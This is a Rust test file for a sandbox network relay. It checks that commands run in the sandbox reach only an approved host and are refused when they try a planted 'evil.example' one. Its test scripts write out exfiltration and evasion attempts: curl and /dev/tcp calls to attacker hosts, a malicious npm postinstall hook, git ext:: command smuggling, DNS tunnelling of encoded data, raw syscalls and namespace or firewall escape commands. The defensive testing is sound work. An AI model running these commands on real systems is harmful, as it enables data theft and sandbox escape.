//! A cell with the relay: real clients against servers on loopback, including a planted second host.
//! The resolver is a counting double (a real one would need the internet), and so is the person, who says no.

use std::collections::HashMap;
use std::io::{Read as _, Write as _};
use std::net::{IpAddr, Ipv4Addr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use guarda_core::gate::{ApprovedHosts, HostRefusal};
use guarda_core::network::{Destination, DomainName, HostRule, HostRules, Ports, Protocol, Why};
use guarda_core::output::traffic::HostTraffic;
use guarda_sandbox::relay::{Later, Outside, Relay};
use guarda_sandbox::{Network, SandboxLevel, Spec};

use crate::jail::{Done, Jail, block_on, program, run_in, sandbox};
use crate::stage::staged;

#[derive(Default)]
struct World {
    asked: Mutex<Vec<String>>,
    looked_up: Mutex<Vec<String>>,
}

impl Outside for World {
    fn ask<'a>(&'a self, to: &'a [Destination]) -> Later<'a, Result<ApprovedHosts, HostRefusal>> {
        self.asked.lock().unwrap().extend(to.iter().map(|to| to.host.to_string()));
        Box::pin(async { Err(HostRefusal::Unapproved) })
    }

    fn refused<'a>(&'a self, _to: &'a Destination, _why: &'a HostRefusal) -> Later<'a, ()> {
        Box::pin(async {})
    }

    fn look_up<'a>(&'a self, name: &'a DomainName) -> Later<'a, std::io::Result<Vec<IpAddr>>> {
        self.looked_up.lock().unwrap().push(name.to_string());
        Box::pin(async { Ok(vec![Ipv4Addr::LOCALHOST.into()]) })
    }
}

/// Serves a folder; every connection is counted by its `Host`.
pub struct Server {
    pub port: u16,
    hosts: Arc<Mutex<HashMap<String, usize>>>,
}

impl Server {
    pub fn of(folder: &Path) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let hosts = Arc::new(Mutex::new(HashMap::new()));
        let (folder, seen) = (folder.to_owned(), Arc::clone(&hosts));
        std::thread::spawn(move || {
            while let Ok((stream, _)) = listener.accept() {
                let (folder, seen) = (folder.clone(), Arc::clone(&seen));
                std::thread::spawn(move || serve(stream, &folder, &seen));
            }
        });
        Self { port, hosts }
    }

    pub fn named(&self, host: &str) -> usize {
        self.hosts.lock().unwrap().get(&format!("{host}:{}", self.port)).copied().unwrap_or(0)
    }
}

fn serve(mut stream: TcpStream, folder: &Path, seen: &Mutex<HashMap<String, usize>>) {
    let mut got = Vec::new();
    let mut piece = [0; 4096];
    while !got.windows(4).any(|end| end == b"\r\n\r\n") {
        match stream.read(&mut piece) {
            Ok(length @ 1..) => got.extend(&piece[..length]),
            _ => return,
        }
    }
    let head = String::from_utf8_lossy(&got);
    let host =
        head.lines().find_map(|line| line.to_ascii_lowercase().strip_prefix("host: ").map(str::to_owned));
    *seen.lock().unwrap().entry(host.unwrap_or_default()).or_insert(0) += 1;
    let path = head.split(' ').nth(1).unwrap_or_default();
    let path = folder.join(path.split('?').next().unwrap_or_default().trim_start_matches('/'));
    let path = if path.is_dir() { path.join("index.html") } else { path };
    let kind = match path.extension().and_then(|end| end.to_str()) {
        Some("json") => "application/json",
        Some("html") => "text/html",
        _ => "application/octet-stream",
    };
    let (status, body) = match std::fs::read(&path) {
        Ok(body) => ("200 OK", body),
        Err(_) => ("404 Not Found", Vec::new()),
    };
    let length = body.len();
    let head = format!(
        "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n"
    );
    let _ = stream.write_all(&[head.into_bytes(), body].concat());
}

fn rule(host: &str, port: u16) -> HostRule {
    HostRule {
        host: host.parse().unwrap(),
        ports: Ports::Of(vec![port]),
        protocol: Protocol::Any,
        why: Why::Word { word: host.to_owned(), start: 0 },
        private: true,
    }
}

pub struct Came {
    pub done: Done,
    traffic: Vec<HostTraffic>,
    world: Arc<World>,
}

impl Came {
    pub fn of(&self, host: &str) -> &HostTraffic {
        let found = self.traffic.iter().find(|traffic| traffic.host.to_string() == host);
        found.unwrap_or_else(|| panic!("{host} is not among {:#?}\n{:#?}", self.traffic, self.done))
    }

    /// The questions that were asked.
    pub fn asked(&self) -> Vec<String> {
        self.world.asked.lock().unwrap().clone()
    }

    pub fn looked_up(&self, host: &str) -> bool {
        self.world.looked_up.lock().unwrap().iter().any(|name| name == host)
    }
}

/// Runs a script with `good.example` on a port admitted.
pub fn run(jail: &Jail, script: &str, port: u16) -> Came {
    run_within(&jail.spec(SandboxLevel::Confined), jail, script, port)
}

/// The same in this kind of cell.
pub fn run_within(spec: &Spec, jail: &Jail, script: &str, port: u16) -> Came {
    let world = Arc::new(World::default());
    let port_text = port.to_string();
    let start = jail.script(script, &[("port", &port_text), ("GIT_TERMINAL_PROMPT", "0")]);
    let spec = Spec { network: Network::Hosts, ..spec.clone() };
    let rules: HostRules = [rule("good.example", port)].into_iter().collect();
    block_on(async {
        let mut cell = sandbox().open(&spec).await.unwrap();
        if std::env::var_os(crate::notified::NO_NAMESPACES).is_some() {
            crate::notified::is_notified(cell.protection());
        }
        let outside: Arc<dyn Outside> = Arc::clone(&world) as _;
        let relay = Relay::begin(cell.take_network().unwrap(), rules, outside).unwrap();
        let done = run_in(&mut cell, start).await;
        Came { done, traffic: relay.traffic(), world: Arc::clone(&world) }
    })
}

/// Writes a folder to be served, and returns its path.
pub fn folder(jail: &Jail, files: &[(&str, &[u8])]) -> PathBuf {
    let folder = jail.outside("www");
    for (name, content) in files {
        let path = folder.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, content).unwrap();
    }
    folder
}

#[test]
fn each_client_reaches_the_admitted_host_and_no_other() {
    let direct = "env -u http_proxy -u https_proxy -u HTTP_PROXY -u HTTPS_PROXY";
    let clients = [
        ("curl -sf http://HOST:$port/file".to_owned(), "curl by the proxy"),
        (format!("{direct} curl -sf http://HOST:$port/file"), "curl by the redirect"),
        (format!("{direct} wget -t1 -qO- http://HOST:$port/file"), "wget by the redirect"),
        ("wget -t1 -qO- http://HOST:$port/file".to_owned(), "wget by the proxy"),
        ("/usr/bin/python3 -c 'import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1]).read().decode())' http://HOST:$port/file".to_owned(), "urllib by the proxy"),
        ("/usr/bin/python3 -c 'import sys, requests; r = requests.get(sys.argv[1]); r.raise_for_status(); print(r.text)' http://HOST:$port/file".to_owned(), "requests by the proxy"),
        ("exec 3<>/dev/tcp/HOST/$port; printf 'GET /file HTTP/1.1\\r\\nHost: HOST:%s\\r\\n\\r\\n' $port >&3; cat <&3 | grep planted".to_owned(), "bash by the redirect"),
        ("node -e 'fetch(process.argv[1]).then(r => { if (!r.ok) process.exit(3); return r.text() }).then(t => console.log(t))' http://HOST:$port/file".to_owned(), "node by the redirect"),
    ];
    let jail = Jail::new();
    let server = Server::of(&folder(&jail, &[("file", b"planted")]));
    for (line, client) in &clients {
        let good = run(&jail, &line.replace("HOST", "good.example"), server.port);
        assert!(good.done.succeeds().out.contains("planted"), "{client}: {:#?}", good.done);
        assert!(good.of("good.example").received > 0, "{client}");
        let evil = run(&jail, &line.replace("HOST", "evil.example"), server.port);
        assert!(!evil.done.fails().out.contains("planted"), "{client}: {:#?}", evil.done);
        assert!(evil.of("evil.example").refused > 0 && !evil.looked_up("evil.example"), "{client}");
        assert_eq!(*evil.world.asked.lock().unwrap(), ["evil.example"], "{client}");
    }
    assert_eq!((server.named("good.example") > 0, server.named("evil.example")), (true, 0));
}

#[test]
fn pip_and_uv_install_from_their_index_and_not_from_a_planted_host() {
    let jail = Jail::new();
    let wheel = jail.outside("foo-1.0-py3-none-any.whl");
    let made = program("/usr/bin/python3")
        .args(["-c", "import sys, zipfile
z = zipfile.ZipFile(sys.argv[1], 'w')
for name, text in (('foo.py', 'x = 1'), ('foo-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: foo\\nVersion: 1.0\\n'), ('foo-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n'), ('foo-1.0.dist-info/RECORD', '')):
    z.writestr(name, text)"])
        .arg(&wheel)
        .status()
        .unwrap();
    assert!(made.success());
    let wheel = std::fs::read(wheel).unwrap();
    let server = Server::of(&folder(&jail, &[("files/foo-1.0-py3-none-any.whl", &wheel)]));
    let page = |host: &str| {
        format!(
            "<a href='http://{host}:{}/files/foo-1.0-py3-none-any.whl'>foo-1.0-py3-none-any.whl</a>",
            server.port
        )
    };
    let common = "--target \"$work/lib\" --index-url http://good.example:$port/simple/ foo && cat \"$work/lib/foo.py\"";
    let pip = "rm -rf \"$work/lib\"; /usr/bin/python3 -m pip install --no-cache-dir --disable-pip-version-check --retries 0 --trusted-host good.example --trusted-host evil.example";
    let uv = format!(
        "rm -rf \"$work/lib\"; UV_HTTP_RETRIES=0 {} pip install --python /usr/bin/python3",
        installed("target/python/bin/uv").display()
    );
    for client in [pip.to_owned(), uv] {
        let script = format!("{client} {common}");
        folder(&jail, &[("simple/foo/index.html", page("evil.example").as_bytes())]);
        let planted = run_installed(&jail, &script, server.port);
        planted.done.fails();
        assert!(planted.of("evil.example").refused > 0 && !planted.looked_up("evil.example"), "{client}");
        assert_eq!(planted.of("evil.example").reasons, ["it was not approved".to_owned()].into());
        assert_eq!(server.named("evil.example"), 0, "{client}");
        folder(&jail, &[("simple/foo/index.html", page("good.example").as_bytes())]);
        let good = run_installed(&jail, &script, server.port);
        assert!(good.done.succeeds().out.contains("x = 1"), "{:#?}", good.done);
        assert_eq!(good.asked(), [""; 0]);
    }
}

/// What `make test` installs.
pub fn installed(path: impl AsRef<Path>) -> PathBuf {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join(path);
    assert!(path.is_file(), "{} is not there: make test installs it", path.display());
    path
}

/// Runs a script that may use it.
pub fn run_installed(jail: &Jail, script: &str, port: u16) -> Came {
    let mut spec = jail.spec(SandboxLevel::Confined);
    spec.readable.push(Path::new(env!("CARGO_MANIFEST_DIR")).join("target"));
    run_within(&spec, jail, script, port)
}

/// An npm registry with one package, whose files are on the given host, and the server of both.
fn registry(jail: &Jail) -> (Server, impl Fn(&str)) {
    let make = "mkdir package && echo '{\"name\":\"foo\",\"version\":\"1.0.0\"}' > package/package.json && tar czf foo.tgz package && sha1sum foo.tgz";
    let made = program("/bin/bash").args(["-c", make]).current_dir(jail.outside("")).output().unwrap();
    assert!(made.status.success(), "{made:?}");
    let sum = String::from_utf8(made.stdout).unwrap()[..40].to_owned();
    let files = std::fs::read(jail.outside("foo.tgz")).unwrap();
    let www = folder(jail, &[("files/foo.tgz", &files)]);
    let server = Server::of(&www);
    let port = server.port;
    let lies_on = move |host: &str| {
        let version = format!(
            "{{\"name\":\"foo\",\"version\":\"1.0.0\",\"dist\":{{\"shasum\":\"{sum}\",\"tarball\":\"http://{host}:{port}/files/foo.tgz\"}}}}"
        );
        let package = format!(
            "{{\"name\":\"foo\",\"dist-tags\":{{\"latest\":\"1.0.0\"}},\"versions\":{{\"1.0.0\":{version}}}}}"
        );
        std::fs::write(www.join("foo"), package).unwrap();
    };
    (server, lies_on)
}

const NPM: &str =
    "npm install --fetch-retries 0 --no-audit --no-fund --no-update-notifier --replace-registry-host never";

/// In an empty project, installs from that host's registry.
fn add_foo(client: &str) -> String {
    format!(
        "rm -rf node_modules *lock*; echo '{{}}' > package.json; {client} --registry http://good.example:$port/ foo && ls node_modules"
    )
}

#[test]
fn npm_yarn_and_pnpm_install_from_their_registry_and_not_from_a_planted_host() {
    let jail = Jail::new();
    let (server, lies_on) = registry(&jail);
    let other = |name: &str, words: &str| {
        let program = installed(format!("target/node/node_modules/.bin/{name}"));
        format!("{} {words}", program.display())
    };
    let yarn = other("yarn", "add --no-progress");
    let pnpm = other("pnpm", "add --config.fetch-retries=0");
    for client in [NPM.to_owned(), yarn, pnpm] {
        lies_on("evil.example");
        let planted = run_installed(&jail, &add_foo(&client), server.port);
        planted.done.fails();
        assert!(planted.of("evil.example").refused > 0 && !planted.looked_up("evil.example"), "{client}");
        assert_eq!(server.named("evil.example"), 0, "{client}");
        lies_on("good.example");
        let good = run_installed(&jail, &add_foo(&client), server.port);
        assert!(good.done.succeeds().out.contains("foo"), "{client}: {:#?}", good.done);
        assert_eq!(good.asked(), [""; 0], "{client}");
    }
}

#[test]
fn npm_installs_from_its_registry_where_its_writes_are_held_back() {
    let jail = Jail::new();
    let (server, lies_on) = registry(&jail);
    // The home folder is not held back here, and has no room for a cache.
    let npm = format!("{NPM} --cache \"$TMPDIR/c\"");
    lies_on("good.example");
    let good = run_within(&staged(&jail, "work", "npm"), &jail, &add_foo(&npm), server.port);
    assert!(good.done.succeeds().out.contains("foo"), "{:#?}", good.done);
    assert!(good.of("good.example").received > 0 && !jail.at("work/node_modules").exists());
    assert!(jail.at("guard/worknpm/upper/node_modules/foo/package.json").exists());
    lies_on("evil.example");
    let planted = run_within(&staged(&jail, "work", "evil"), &jail, &add_foo(&npm), server.port);
    planted.done.fails();
    assert!(planted.of("evil.example").refused > 0 && !planted.looked_up("evil.example"));
    assert_eq!(server.named("evil.example"), 0);
}

#[test]
fn cargo_fetches_from_its_registry_and_not_from_a_planted_host() {
    let cargo = installed(env!("CARGO"));
    let jail = Jail::new();
    let make = "mkdir -p foo-1.0.0/src && touch foo-1.0.0/src/lib.rs && printf '[package]\\nname = \"foo\"\\nversion = \"1.0.0\"\\n' > foo-1.0.0/Cargo.toml && tar czf foo.crate foo-1.0.0 && sha256sum foo.crate";
    let made = program("/bin/bash").args(["-c", make]).current_dir(jail.outside("")).output().unwrap();
    assert!(made.status.success(), "{made:?}");
    let sum = String::from_utf8(made.stdout).unwrap()[..64].to_owned();
    let entry = format!(
        "{{\"name\":\"foo\",\"vers\":\"1.0.0\",\"deps\":[],\"cksum\":\"{sum}\",\"features\":{{}},\"yanked\":false}}\n"
    );
    let krate = std::fs::read(jail.outside("foo.crate")).unwrap();
    let files: [(&str, &[u8]); 2] = [("index/3/f/foo", entry.as_bytes()), ("dl/foo/1.0.0/download", &krate)];
    let server = Server::of(&folder(&jail, &files));
    let script = format!("rm -rf p && mkdir -p p/src p/.cargo && cd p && touch src/lib.rs && export CARGO_HOME=\"$TMPDIR/cargo\" RUSTC={}
        printf '[package]\\nname = \"p\"\\nversion = \"0.1.0\"\\n[dependencies]\\nfoo = \"1\"\\n' > Cargo.toml
        printf '[source.crates-io]\\nreplace-with = \"mine\"\\n[source.mine]\\nregistry = \"sparse+http://good.example:%s/index/\"\\n[net]\\nretry = 0\\n' $port > .cargo/config.toml
        {} fetch && ls $CARGO_HOME/registry/src/*", cargo.with_file_name("rustc").display(), cargo.display());
    let toolchain = cargo.ancestors().nth(2).unwrap().to_owned();
    let spec = || {
        let mut spec = jail.spec(SandboxLevel::Confined);
        spec.readable.push(toolchain.clone());
        spec
    };
    let config = |host: &str| format!("{{\"dl\":\"http://{host}:{}/dl\"}}", server.port);
    folder(&jail, &[("index/config.json", config("evil.example").as_bytes())]);
    let planted = run_within(&spec(), &jail, &script, server.port);
    planted.done.fails();
    assert!(planted.of("evil.example").refused > 0 && !planted.looked_up("evil.example"));
    assert_eq!(server.named("evil.example"), 0);
    folder(&jail, &[("index/config.json", config("good.example").as_bytes())]);
    let good = run_within(&spec(), &jail, &script, server.port);
    assert!(good.done.succeeds().out.contains("foo-1.0.0"), "{:#?}", good.done);
    assert_eq!(*good.world.asked.lock().unwrap(), [""; 0]);
}

/// Accepts connections, sends `greeting` first, and reports each client's first bytes.
fn listener(greeting: &'static [u8]) -> (u16, std::sync::mpsc::Receiver<Vec<u8>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let (tell, told) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        while let Ok((mut stream, _)) = listener.accept() {
            let _ = stream.write_all(greeting);
            let mut first = [0; 4096];
            let got = stream.read(&mut first).unwrap_or(0);
            let _ = tell.send(first[..got].to_vec());
        }
    });
    (port, told)
}

#[test]
fn clients_of_other_protocols_reach_the_admitted_host_and_no_other() {
    let packages: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
    let jail = Jail::new();
    let rows: [(&str, &[u8], &[u8]); 7] = [
        ("redis-cli -h HOST -p $port PING", b"", b"*1\r\n$4\r\nPING\r\n"),
        (
            "cd $TMPDIR && HOME=$TMPDIR gem fetch foo --clear-sources --source http://HOST:$port/",
            packages,
            b"GET /",
        ),
        (
            "cd $TMPDIR && export HOME=$TMPDIR GO111MODULE=on GOFLAGS=-modcacherw GOSUMDB=off GOPATH=$TMPDIR/go GOCACHE=$TMPDIR/gc GOPROXY=http://HOST:$port && go list -m a.example/foo@v1.0.0",
            packages,
            b"GET /a.example/foo/@v/v1.0.0.info ",
        ),
        ("psql -h HOST -p $port -U a -c 'select 1' postgres", b"", b"\0\0\0\x08"),
        (
            "ssh -F none -p $port -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null a@HOST true",
            b"SSH-2.0-test\r\n",
            b"SSH-2.0-",
        ),
        (
            "export GIT_SSH_COMMAND='ssh -F none -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null'; git ls-remote ssh://a@HOST:$port/x",
            b"SSH-2.0-test\r\n",
            b"SSH-2.0-",
        ),
        (
            "cd $TMPDIR && mkdir -p s/lists/partial c/archives/partial && echo 'deb [trusted=yes] http://HOST:'$port' ./' > list && apt-get -o Dir::State=$TMPDIR/s -o Dir::Cache=$TMPDIR/c -o Dir::Etc::sourcelist=$TMPDIR/list -o Dir::Etc::sourceparts=- -o APT::Sandbox::User= -o Acquire::Retries=0 -o Debug::NoLocking=1 update",
            packages,
            b"GET ",
        ),
    ];
    for (line, greeting, first) in rows {
        let (port, told) = listener(greeting);
        let evil = run(&jail, &line.replace("HOST", "evil.example"), port);
        assert!(evil.of("evil.example").refused > 0 && !evil.looked_up("evil.example"), "{line}");
        assert!(told.try_recv().is_err(), "{line}");
        // There is no server: only the client's first bytes matter, not how it ends.
        let good = run(&jail, &line.replace("HOST", "good.example"), port);
        let said = told.recv_timeout(std::time::Duration::from_secs(30));
        let said = said.unwrap_or_else(|_| panic!("{line}: {:#?} {:#?}", good.done, good.traffic));
        assert!(said.starts_with(first), "{line}: {:?} {:#?}", String::from_utf8_lossy(&said), good.done);
        assert!(good.of("good.example").connections > 0, "{line}");
    }
}

/// Says no after a while, or yes, and resolves a name by a datagram, which is counted as a real resolver's
/// would be.
struct Counted {
    before: Mutex<Vec<u64>>,
}

/// How many packets have passed this process's network interfaces; without namespaces, those that lead to
/// other machines.
fn packets() -> u64 {
    let text = std::fs::read_to_string("/proc/self/net/dev").unwrap();
    let leads_away =
        |name: &str| name.trim() != "lo" || std::env::var_os(crate::notified::NO_NAMESPACES).is_none();
    let lines = text.lines().filter_map(|line| line.split_once(':'));
    let counts = lines.filter(|(name, _)| leads_away(name)).map(|(_, counts)| {
        let counts: Vec<u64> = counts.split_whitespace().map(|count| count.parse().unwrap()).collect();
        counts[1] + counts[9]
    });
    counts.sum()
}

impl Outside for Counted {
    fn ask<'a>(&'a self, to: &'a [Destination]) -> Later<'a, Result<ApprovedHosts, HostRefusal>> {
        Box::pin(async move {
            crate::common::let_pass_async(300, "packets would leave while there is no answer").await;
            self.before.lock().unwrap().push(packets());
            match to[0].host.to_string().as_str() {
                "later.example" => Ok(approved(to)),
                _ => Err(HostRefusal::Unapproved),
            }
        })
    }

    fn refused<'a>(&'a self, _to: &'a Destination, _why: &'a HostRefusal) -> Later<'a, ()> {
        Box::pin(async {})
    }

    fn look_up<'a>(&'a self, _name: &'a DomainName) -> Later<'a, std::io::Result<Vec<IpAddr>>> {
        let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
        let _ = socket.send_to(b"who is it", "192.0.2.9:53");
        Box::pin(async { Ok(vec![Ipv4Addr::from([203, 0, 113, 9]).into()]) })
    }
}

fn approved(to: &[Destination]) -> ApprovedHosts {
    use guarda_core::action::{Proposal, Request};
    let action = Some("RUN_COMMAND".to_owned());
    let request = Request { action, target: Some("true".to_owned().into()), ..Request::default() };
    let subject = Arc::new(Proposal::parse(request).unwrap());
    let pending =
        guarda_core::gate::PendingHosts::new(subject, to.to_vec(), guarda_core::gate::Number([1; 16]));
    let answer = pending.question().answer(guarda_core::gate::Says::Yes { channel: "test".to_owned() });
    pending.settle(answer).unwrap()
}

/// In its own network namespace, so that no other packet is counted: this test starts itself in one.
#[test]
fn not_one_packet_leaves_before_a_yes() {
    const INNER: &str = "GUARDA_TEST_INNER";
    if std::env::var_os(INNER).is_none() {
        let own = std::env::current_exe().unwrap();
        // A way to other machines on which nothing passes by itself.
        let way = "ip link set lo up && ip link add v0 type veth peer name v1
            for one in v0 v1; do echo 1 > /proc/sys/net/ipv6/conf/$one/disable_ipv6; ip link set $one arp off up; done
            ip address add 10.9.9.1/24 dev v0 && ip route add default via 10.9.9.2";
        let test = "exec \"$0\" --exact relayed::not_one_packet_leaves_before_a_yes --nocapture";
        let without = format!(
            "echo 0 > /proc/sys/user/max_net_namespaces && export {}=1",
            crate::notified::NO_NAMESPACES
        );
        for line in [format!("{way} && {test}"), format!("{way} && {without} && {test}")] {
            let done = program("/usr/bin/unshare")
                .args(["-rn", "/bin/bash", "-c", &line])
                .arg(&own)
                .envs(std::env::vars_os())
                .env(INNER, "1")
                .output()
                .unwrap();
            let text =
                String::from_utf8_lossy(&done.stdout).into_owned() + &String::from_utf8_lossy(&done.stderr);
            assert!(done.status.success() && text.contains("packets after a yes"), "{text}");
        }
        return;
    }
    let jail = Jail::new();
    let world = Arc::new(Counted { before: Mutex::default() });
    let spec = Spec { network: Network::Hosts, ..jail.spec(SandboxLevel::Confined) };
    let begun = packets();
    let run = |line: &str| {
        block_on(async {
            let mut cell = sandbox().open(&spec).await.unwrap();
            let outside: Arc<dyn Outside> = Arc::clone(&world) as _;
            let _relay = Relay::begin(cell.take_network().unwrap(), HostRules::default(), outside).unwrap();
            run_in(&mut cell, jail.script(line, &[])).await
        })
    };
    let tries = "for u in http://evil.example/ http://8.8.8.8/ https://evil2.example/; do curl -s --max-time 5 $u; curl -s --noproxy '*' --max-time 5 $u; done
        getent hosts c2VjcmV0.evil.example; echo x > /dev/udp/8.8.8.8/53; ping -c1 -W1 8.8.8.8; echo x > /dev/udp/8.8.8.8/443; true";
    run(tries).succeeds();
    assert_eq!(packets(), begun, "after a no");
    assert_eq!(world.before.lock().unwrap().len(), 3);
    run("curl -s --max-time 5 http://later.example/; true").succeeds();
    assert!(world.before.lock().unwrap().iter().all(|count| *count == begun), "{:?}", world.before);
    // The counter counts: after the yes the name is looked up.
    assert!(packets() > begun);
    println!("packets after a yes: {}", packets() - begun);
}

#[test]
fn git_clones_the_named_host_and_not_the_submodule_of_another() {
    let jail = Jail::new();
    let www = jail.outside("www");
    std::fs::create_dir_all(&www).unwrap();
    let server = Server::of(&www);
    let script = format!(
        "set -e; export GIT_CONFIG_GLOBAL=/dev/null GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
         git init -q sub; cd sub; echo inner > inner; git add .; git commit -qm 1; cd ..
         git init -q main; cd main; echo text > text; git add .; git -c protocol.file.allow=always submodule --quiet add \"$PWD/../sub\" sub
         git config -f .gitmodules submodule.sub.url http://evil.example:{}/sub.git; git add .; git commit -qm 1; cd ..
         for one in sub main; do git clone -q --bare $one www/$one.git; git -C www/$one.git update-server-info; done",
        server.port
    );
    let made = program("/bin/bash")
        .args(["-c", &script])
        .current_dir(jail.outside(""))
        .env("HOME", jail.outside(""))
        .status()
        .unwrap();
    assert!(made.success());
    let clone = "export GIT_CONFIG_GLOBAL=/dev/null; rm -rf c; git clone -q OPTIONS http://good.example:$port/main.git c; code=$?; cat c/text; exit $code";
    let good = run(&jail, &clone.replace("OPTIONS", ""), server.port);
    assert_eq!(good.done.succeeds().out, "text\n");
    for by in ["", "unset http_proxy HTTP_PROXY; "] {
        let planted =
            run(&jail, &(by.to_owned() + &clone.replace("OPTIONS", "--recurse-submodules")), server.port);
        assert_eq!(planted.done.fails().out, "text\n");
        assert!(planted.of("evil.example").refused > 0 && !planted.looked_up("evil.example"));
        assert_eq!(planted.of("evil.example").ports, [server.port].into());
    }
    assert_eq!(server.named("evil.example"), 0);
}

#[test]
fn data_in_names_and_datagrams_reach_nobody() {
    let jail = Jail::new();
    let server = Server::of(&folder(&jail, &[]));
    let script = "getent hosts c2VjcmV0.evil.example; getent hosts $(printf 'x%.0s' $(seq 63)).evil.example
        /usr/bin/python3 -c '
import socket
s = socket.socket(type=socket.SOCK_DGRAM)
for to in (\"8.8.8.8\", \"1.1.1.1\"):
    s.sendto(b\"\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06c2VjcmV0\\x04evil\\x07example\\x00\\x00\\x10\\x00\\x01\", (to, 53))
    s.settimeout(5); print(len(s.recv(512)))
t = socket.create_connection((\"8.8.8.8\", 53)); t.close()
try: socket.create_connection((\"8.8.8.8\", 853), 5).recv(1)
except OSError as error: print(type(error).__name__)
'";
    let came = run(&jail, script, server.port);
    assert!(came.done.succeeds().out.contains("198.18."), "{:#?}", came.done);
    assert!(came.done.out.ends_with("ConnectionResetError\n"), "{:#?}", came.done);
    assert!(came.world.looked_up.lock().unwrap().is_empty());
    assert_eq!(*came.world.asked.lock().unwrap(), ["8.8.8.8"]);
}

#[test]
fn two_thousand_connections_stand_at_once() {
    let jail = Jail::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // Each is answered only when all have come: the kernel's queue is shorter, so they are taken at once.
    std::thread::spawn(move || {
        let mut all: Vec<TcpStream> = (0..2000).map(|_| listener.accept().unwrap().0).collect();
        for stream in &mut all {
            stream.write_all(b"x").unwrap();
        }
    });
    let limit = rustix::process::getrlimit(rustix::process::Resource::Nofile);
    let most = rustix::process::Rlimit { current: limit.maximum, ..limit };
    rustix::process::setrlimit(rustix::process::Resource::Nofile, most).unwrap();
    let script = "/usr/bin/python3 -c '
import os, resource, socket
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
all = [socket.create_connection((\"good.example\", int(os.environ[\"port\"]))) for _ in range(2000)]
print(sum(len(one.recv(1)) for one in all))'";
    let came = run(&jail, script, port);
    assert_eq!(came.done.succeeds().out, "2000\n", "{:#?}", came.done);
    assert_eq!(came.of("good.example").connections, 2000);
}

/// Whatever a run starts or fetches is in the same network: each row tries to reach one unapproved host in
/// another way.
#[test]
fn no_way_of_a_run_leads_to_another_host() {
    let relay_inside = "/usr/bin/python3 -c '
import socket, threading, os
server = socket.create_server((\"127.0.0.1\", 0))
def forward():
    client = server.accept()[0]
    out = socket.create_connection((\"evil.example\", 80))
    out.send(client.recv(4096)); client.send(out.recv(4096)); client.close()
threading.Thread(target=forward, daemon=True).start()
client = socket.create_connection(server.getsockname()); client.send(b\"GET / HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n\"); print(client.recv(4096))'";
    let by_system_call = format!(
        "/usr/bin/python3 -c '
import ctypes, socket, struct
s = socket.socket(); libc = ctypes.CDLL(None)
libc.syscall({}, s.fileno(), struct.pack(\"!HH4s8x\", socket.htons(2), 80, socket.inet_aton(\"93.184.216.34\")), 16)
s.send(b\"x\\n\"); s.recv(9)'",
        libc::SYS_connect
    );
    let postinstall = "mkdir -p p && echo '{\"name\":\"p\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl -s http://evil.example/\"}}' > p/package.json && cd p && npm install --cache \"$TMPDIR/c\" --foreground-scripts --offline --no-update-notifier --no-audit --no-fund";
    let rows: &[(&str, &str)] = &[
        ("curl -s http://good.example:9/", "good.example"),
        ("curl -s --noproxy '*' http://good.example:9/", "good.example"),
        ("curl -s 'https://dns.google/resolve?name=c2VjcmV0.evil.example'", "dns.google"),
        ("curl -s https://1.1.1.1/dns-query", "1.1.1.1"),
        ("exec 3<>/dev/tcp/dns.quad9.net/853; echo x >&3; cat <&3", "dns.quad9.net"),
        (
            "/usr/bin/python3 -m pip download --no-cache-dir --disable-pip-version-check --retries 0 -d \"$TMPDIR/d\" --index-url http://good.example:$port/simple/ --extra-index-url http://evil.example/simple/ --trusted-host good.example --trusted-host evil.example foo",
            "evil.example",
        ),
        (postinstall, "evil.example"),
        (relay_inside, "evil.example"),
        (&by_system_call, "93.184.216.34"),
        ("git -c protocol.ext.allow=always ls-remote 'ext::curl -s http://evil.example/'", "evil.example"),
        (
            "env -i PATH=\"$PATH\" /usr/bin/python3 -c 'import urllib.request; urllib.request.urlopen(\"http://evil.example/\")'",
            "evil.example",
        ),
        (
            "nsenter -n -t 1 true; unshare -rn true; ip link set lo down; nft flush ruleset; curl -s http://evil.example/",
            "evil.example",
        ),
    ];
    let jail = Jail::new();
    let server = Server::of(&folder(&jail, &[]));
    for (line, host) in rows {
        let came = run(&jail, line, server.port);
        let seen = came.of(host);
        assert!(seen.refused > 0 && !came.looked_up(host), "{line}: {:#?}", came.done);
        assert_eq!(
            (came.asked(), seen.connections),
            (vec![(*host).to_owned()], 0),
            "{line}: {:#?}",
            came.done
        );
    }
    assert_eq!(server.named("evil.example"), 0);
}

#[test]
fn a_connection_does_not_outlive_its_run() {
    let jail = Jail::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let ended = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        stream.set_read_timeout(Some(std::time::Duration::from_secs(100))).unwrap();
        stream.write_all(b"hello\n").unwrap();
        let mut rest = Vec::new();
        // A reset is an end, too; a time-out is none.
        match stream.read_to_end(&mut rest) {
